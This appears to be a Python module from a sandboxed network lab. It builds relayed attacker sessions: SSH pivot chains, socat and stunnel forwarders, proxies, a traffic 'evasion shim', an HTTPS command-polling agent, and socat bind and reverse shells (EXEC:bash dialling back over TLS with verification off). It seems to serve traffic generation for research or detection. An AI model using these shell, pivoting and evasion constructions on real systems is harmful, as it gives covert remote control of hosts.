"""What every session needs: listeners at its relays and victim, and a client at its source.

Pure: turns a plan into a list of demands (`Fitting`), which services.py and runner.py then meet. A demand names hosts
and addresses, never processes.
"""

from __future__ import annotations

import shlex
from dataclasses import dataclass, field

import relays_hard
import tor_network
from plan import Plan, Session
from sandbox import HOME, STATE, TOOLS, USER

CLIENTS = STATE / "clients"
CERTIFICATE = STATE / "etc/lab.pem"  # certificate and key in one file
PYTHON = "/usr/bin/python3"
SHIM = str(TOOLS / "hw-evasion-shim")
PROXIES = ("dante", "microsocks", "tinyproxy")
TLS_KINDS = ("socat-tls", "stunnel")  # forwarders that are spoken to in TLS
ENCRYPTING_KINDS = ("socat", "socat-tls", "stunnel")  # forwarders that can speak TLS to the next one
SSH_DEFAULTS = f"""
User {USER}
IdentityFile {HOME}/.ssh/id_ed25519
StrictHostKeyChecking no
UserKnownHostsFile /dev/null
GlobalKnownHostsFile /dev/null
LogLevel ERROR
"""


@dataclass
class Client:
    """How a driver opens its session: helpers first, then one command whose input and output are the session."""

    argv: list[str]
    terminal: bool  # the command gets a pseudo-terminal
    files: dict[str, str] = field(default_factory=dict)
    before: list[dict[str, object]] = field(default_factory=list)  # {"argv", "port"}: wait until port listens
    typed_logins: list[str] = field(default_factory=list)  # commands typed to get from host to host
    prompt: bool = True  # a shell greets us
    script: list[str] = field(default_factory=list)  # commands in this order, instead of the driver's own choice


@dataclass(frozen=True)
class Agent:
    """A second program of a session: `delay_s` after the driver starts, or before it if negative."""

    host: str
    argv: list[str]
    delay_s: float
    as_user: bool = True


@dataclass
class Fitting:
    redirects: dict[str, dict[str, list[int]]] = field(default_factory=dict)  # host → daemon → ports
    haproxy: dict[str, list[tuple[int, str, int]]] = field(default_factory=dict)  # host → listen, to
    stunnel: dict[str, list[tuple[int, bool, str, int]]] = field(default_factory=dict)  # host → listen, TLS out?, to
    processes: list[tuple[str, list[str]]] = field(default_factory=list)  # host, argv: from the start to the end
    processes_as_root: list[tuple[str, list[str]]] = field(default_factory=list)
    tor: bool = False  # a private Tor network is wanted
    agents: dict[str, Agent] = field(default_factory=dict)  # by session
    clients: dict[str, Client] = field(default_factory=dict)

    def redirect(self, host: str, daemon: str, port: int) -> None:
        self.redirects.setdefault(host, {}).setdefault(daemon, []).append(port)


class Fitter:
    """Fits one session; the plan's address book and the demands so far are its only state."""

    def __init__(self, plan: Plan, session: Session, number: int, fitting: Fitting) -> None:
        self.session, self.fitting, self.number = session, fitting, number
        self._plan = plan
        self.nodes = [*session.chain, session.victim]
        self.terminal = session.driver == "keystroke"
        self.files: dict[str, str] = {}
        self.before: list[dict[str, object]] = []
        self.config = str(CLIENTS / f"{session.id}.ssh")
        self.hosts: list[str] = []  # "Host" blocks of the session's ssh configuration

    def address(self, name: str) -> str:
        return self._plan.topology.host(name).address

    def local_port(self, index: int) -> int:
        return 2000 + self.number * 10 + index

    # -- helpers ------------------------------------------------------------------------------------------------

    def web_server(self) -> str:
        return self._plan.topology.with_role("server")[0].address

    def relay_number(self, name: str) -> int:
        return [host.name for host in self._plan.topology.with_role("relay")].index(name)

    def serve_once(self, host: str, argv: list[str]) -> None:
        """One such daemon, with root's rights, for all of a host's sessions."""
        if (host, argv) not in self.fitting.processes_as_root:
            self.fitting.processes_as_root.append((host, argv))

    def agent(self, host: str, argv: list[str], delay_s: float, as_user: bool = True) -> None:
        self.fitting.agents[self.session.id] = Agent(host, argv, delay_s, as_user)

    def ssh_host(self, alias: str, address: str, port: int, *options: str) -> None:
        self.hosts.append("\n  ".join([f"Host {alias}", f"HostName {address}", f"Port {port}", *options]))

    def ssh(self, alias: str, *options: str) -> list[str]:
        return ["ssh", "-F", self.config, *options, alias]

    def client(self, argv: list[str], typed_logins: list[str] | None = None) -> Client:
        self.files[self.config] = "\n".join(self.hosts) + "\nHost *" + SSH_DEFAULTS.replace("\n", "\n  ") + "\n"
        return Client(argv, self.terminal, self.files, self.before, typed_logins or [])

    def ssh_session(self) -> list[str]:
        """The last leg, to the victim's sshd, once the alias `victim` leads there."""
        return self.ssh("victim", "-tt") if self.terminal else self.ssh("victim", "-T") + ["bash"]

    def offer_shell(self) -> None:
        """Binds a shell to the session's port at the victim."""
        port = self.session.ports[-1]
        shell = "bash -i,pty,setsid,ctty,stderr,sane" if self.terminal else "bash,stderr"
        listen = f"TCP-LISTEN:{port},fork,reuseaddr,nodelay"
        self.fitting.processes.append((self.session.victim, ["socat", listen, f"EXEC:{shell}"]))

    def redirect_all_sshd(self) -> None:
        for host, port in zip(self.nodes, self.session.ports):
            self.fitting.redirect(host, "sshd", port)

    # -- OpenSSH ------------------------------------------------------------------------------------------------

    def direct(self) -> Client:
        """No relay at all: an ordinary log-in, for the background."""
        self.redirect_all_sshd()
        self.ssh_host("victim", self.address(self.session.victim), self.session.ports[-1])
        return self.client(self.ssh_session())

    def ssh_nested(self) -> Client:
        self.redirect_all_sshd()
        legs = [["ssh", "-tt" if self.terminal else "-T", "-p", str(port), self.address(host)]
                for host, port in zip(self.nodes, self.session.ports)]
        first = legs[0][:1] + ["-F", self.config] + legs[0][1:]
        if self.terminal:  # a person logs in at each host and types the next log-in
            return self.client(first, [f"ssh -p {leg[3]} {leg[4]}" for leg in legs[1:]])
        return self.client(first + [word for leg in legs[1:] for word in leg] + ["bash"])

    def ssh_jump(self) -> Client:
        self.redirect_all_sshd()
        jumps = self._jump_hosts(self.session.chain, self.session.ports)
        self.ssh_host("victim", self.address(self.session.victim), self.session.ports[-1], f"ProxyJump {jumps}")
        return self.client(self.ssh_session())

    def _jump_hosts(self, chain: list[str], ports: list[int]) -> str:
        for index, (host, port) in enumerate(zip(chain, ports)):
            self.ssh_host(f"hop{index + 1}", self.address(host), port)
        return ",".join(f"hop{index + 1}" for index in range(len(chain)))

    def ssh_local_forward(self) -> Client:
        self.redirect_all_sshd()
        entry = (self.address(self.nodes[0]), self.session.ports[0])
        for index in range(len(self.session.chain)):
            self.ssh_host(f"hop{index + 1}", *entry)
            listen = self.local_port(index)
            onward = f"{listen}:{self.address(self.nodes[index + 1])}:{self.session.ports[index + 1]}"
            self.before.append({"argv": self.ssh(f"hop{index + 1}", "-N", "-L", f"127.0.0.1:{onward}"), "port": listen})
            entry = ("127.0.0.1", listen)
        self.ssh_host("victim", *entry)
        return self.client(self.ssh_session())

    def ssh_dynamic_forward(self) -> Client:
        self.redirect_all_sshd()
        via: list[str] = []
        for index, host in enumerate(self.session.chain):
            self.ssh_host(f"hop{index + 1}", self.address(host), self.session.ports[index], *via)
            listen = self.local_port(index)
            self.before.append({"argv": self.ssh(f"hop{index + 1}", "-N", "-D", f"127.0.0.1:{listen}"), "port": listen})
            via = [f"ProxyCommand nc -X 5 -x 127.0.0.1:{listen} %h %p"]
        self.ssh_host("victim", self.address(self.session.victim), self.session.ports[-1], *via)
        return self.client(self.ssh_session())

    def ssh_remote_forward(self) -> Client:
        """The victim dials the last relay (`ssh -R`); the attacker comes to the forwarded port by way of the chain."""
        session, port = self.session, self.local_port(0)
        for host, listen in zip(session.chain, session.ports):
            self.fitting.redirect(host, "sshd", listen)
        last = session.chain[-1]
        self.fitting.redirect(last, "sshd", session.ports[-1])
        back = ["ssh", "-N", "-R", f"127.0.0.1:{port}:127.0.0.1:22", "-p", str(session.ports[-1]), self.address(last)]
        self.agent(session.victim, back, -3.0)
        self.ssh_host("victim", "127.0.0.1", port, f"ProxyJump {self._jump_hosts(session.chain, session.ports)}")
        return self.client(self.ssh_session())

    # -- forwarders and proxies, alone or mixed ------------------------------------------------------------------

    def chained(self) -> Client:
        """A stream through any order of forwarders, proxies and OpenSSH, built from the source outward."""
        session = self.session
        entry = (self.address(self.nodes[0]), session.ports[0])
        command = ""  # a shell command that gives the stream so far; empty while `entry` can be dialled directly
        proxies: list[str] = []  # run of proxies to be walked by one client
        for index, (host, kind) in enumerate(zip(session.chain, session.kinds)):
            onward = (self.address(self.nodes[index + 1]), session.ports[index + 1])
            if kind in PROXIES:
                self.fitting.redirect(host, kind, session.ports[index])
                sort = "http" if kind == "tinyproxy" else "socks5"
                if not proxies:
                    proxies = ["--via", shlex.quote(command)] if command else ["--connect", f"{entry[0]}:{entry[1]}"]
                proxies += [f"--{sort}", f"{onward[0]}:{onward[1]}"]
                continue
            if proxies:
                command, proxies = self.walk(proxies), []
            if kind in ("ssh-J", "ssh-L", "ssh-D"):
                entry, command = self._ssh_hop(kind, index, entry, command, onward)
            else:
                if kind in TLS_KINDS and (index == 0 or session.kinds[index - 1] not in ENCRYPTING_KINDS):
                    command = self._through_tls(entry, command)  # nobody on the way speaks TLS to it: we do
                self._forwarder(kind, index, onward)
        if proxies:
            command = self.walk(proxies)
        return self.finish(entry, command)

    def _ssh_hop(self, kind: str, index: int, entry: tuple[str, int], command: str,
                 onward: tuple[str, int]) -> tuple[tuple[str, int], str]:
        """One relay's sshd, reached through the stream so far; returns what leads to `onward`."""
        self.fitting.redirect(self.session.chain[index], "sshd", self.session.ports[index])
        alias = f"hop{index + 1}"
        # Forwarders before it lead there; nested quoting is safe because no alias or path holds a quote.
        self.ssh_host(alias, *entry, *([f"ProxyCommand {command}"] if command else []))
        if kind == "ssh-J":
            return entry, f"ssh -F {self.config} -W {onward[0]}:{onward[1]} {alias}"
        listen = self.local_port(index)
        forward = ["-L", f"127.0.0.1:{listen}:{onward[0]}:{onward[1]}"] if kind == "ssh-L" else ["-D", f"127.0.0.1:{listen}"]
        self.before.append({"argv": self.ssh(alias, "-N", *forward), "port": listen})
        if kind == "ssh-L":
            return ("127.0.0.1", listen), ""
        return entry, self.walk(["--connect", f"127.0.0.1:{listen}", "--socks5", f"{onward[0]}:{onward[1]}"])

    @staticmethod
    def walk(proxies: list[str]) -> str:
        return " ".join([PYTHON, str(TOOLS / "proxy_connect.py"), *proxies])

    def _through_tls(self, entry: tuple[str, int], command: str) -> str:
        if not command:
            return f"socat - OPENSSL:{entry[0]}:{entry[1]},verify=0,nodelay"
        return self.walk(["--via", shlex.quote(command), "--tls", "-"])

    def _forwarder(self, kind: str, index: int, onward: tuple[str, int]) -> None:
        session = self.session
        host, listen = session.chain[index], session.ports[index]
        encrypted_onward = index + 1 < len(session.kinds) and session.kinds[index + 1] in TLS_KINDS
        if kind == "haproxy":
            self.fitting.haproxy.setdefault(host, []).append((listen, *onward))
        elif kind == "stunnel":
            self.fitting.stunnel.setdefault(host, []).append((listen, encrypted_onward, *onward))
        elif kind in ("shim-encoder", "shim-decoder"):
            self.fitting.processes.append((host, self._shim(kind, listen, onward)))
        else:
            inbound = f"TCP-LISTEN:{listen}" if kind == "socat" else f"OPENSSL-LISTEN:{listen}{TLS_SERVER}"
            outbound = f"OPENSSL:{onward[0]}:{onward[1]},verify=0" if encrypted_onward else f"TCP:{onward[0]}:{onward[1]}"
            argv = ["socat", inbound + ",fork,reuseaddr,nodelay", outbound + ",nodelay"]
            self.fitting.processes.append((host, argv))

    def _shim(self, kind: str, listen: int, onward: tuple[str, int]) -> list[str]:
        """Chaff and shape are each end's own; the delays, both ways, are all at the encoder."""
        encoder = kind == "shim-encoder"
        options = {name: value for name, value in self.session.evasion.items() if encoder or name not in ("jitter_s", "hold_s")}
        options["seed"] = self.session.seed % 1_000_000 * 2 + encoder
        return [SHIM, "encode" if encoder else "decode", str(listen), onward[0], str(onward[1]),
                *(word for name, value in options.items() for word in (name, str(value)))]

    def finish(self, entry: tuple[str, int], command: str) -> Client:
        session = self.session
        if session.end == "ssh":
            self.fitting.redirect(session.victim, "sshd", session.ports[-1])
            self.ssh_host("victim", *entry, *([f"ProxyCommand {command}"] if command else []))
            return self.client(self.ssh_session())
        self.offer_shell()
        if not command:
            return self.client(["nc", entry[0], str(entry[1])])
        return self.client(["sh", "-c", "exec " + command])

    # -- call-back ----------------------------------------------------------------------------------------------

    def reverse_shell(self) -> Client:
        """Shell at the victim → TLS → relays → TLS → a listener at the source. ports[0] is the source's."""
        session = self.session
        nodes = [session.source, *session.chain]
        for index in range(1, len(nodes)):
            back = f"OPENSSL:{self.address(nodes[index - 1])}:{session.ports[index - 1]},verify=0,nodelay"
            listen = f"OPENSSL-LISTEN:{session.ports[index]}{TLS_SERVER},fork,reuseaddr,nodelay"
            self.fitting.processes.append((nodes[index], ["socat", listen, back]))
        shell = "bash -i,pty,setsid,ctty,stderr,sane" if self.terminal else "bash,stderr"
        dial = f"OPENSSL:{self.address(nodes[-1])}:{session.ports[-1]},verify=0,nodelay"
        self.agent(session.victim, ["socat", f"EXEC:{shell}", dial], 2.0)
        return self.client(["socat", "-", f"OPENSSL-LISTEN:{session.ports[0]}{TLS_SERVER},reuseaddr,nodelay"])

    def https_polling(self) -> Client:
        """A harmless agent at the victim asks an HTTPS server at the source for commands, through TCP relays."""
        session = self.session
        nodes = [session.source, *session.chain]
        for index in range(1, len(nodes)):
            onward = (self.address(nodes[index - 1]), session.ports[index - 1])
            self.fitting.haproxy.setdefault(nodes[index], []).append((session.ports[index], *onward))
        tool = str(TOOLS / "poll_control.py")
        url = f"{self.address(nodes[-1])}:{session.ports[-1]}"
        agent = [PYTHON, tool, "poll", url, str(session.length_s), str(session.seed)]
        self.agent(session.victim, agent, 1.5)
        serve = [PYTHON, tool, "serve", str(session.ports[0]), str(CERTIFICATE), str(session.seed)]
        client = self.client(serve)
        client.terminal, client.prompt = False, False
        return client


TLS_SERVER = f",cert={CERTIFICATE},verify=0"

_BUILDERS = {"ssh-nested": Fitter.ssh_nested, "ssh-J": Fitter.ssh_jump, "ssh-L": Fitter.ssh_local_forward,
             "ssh-D": Fitter.ssh_dynamic_forward, "ssh-R": Fitter.ssh_remote_forward,
             "reverse-socat-tls": Fitter.reverse_shell, "https-poll": Fitter.https_polling, "tor": tor_network.tor} | relays_hard.BUILDERS


def fit(plan: Plan) -> Fitting:
    fitting = Fitting()
    for number, session in enumerate(plan.sessions):
        fitter = Fitter(plan, session, number, fitting)
        build = _BUILDERS.get(session.relay_kind, Fitter.chained) if session.chain else Fitter.direct
        fitting.clients[session.id] = build(fitter)
    return fitting
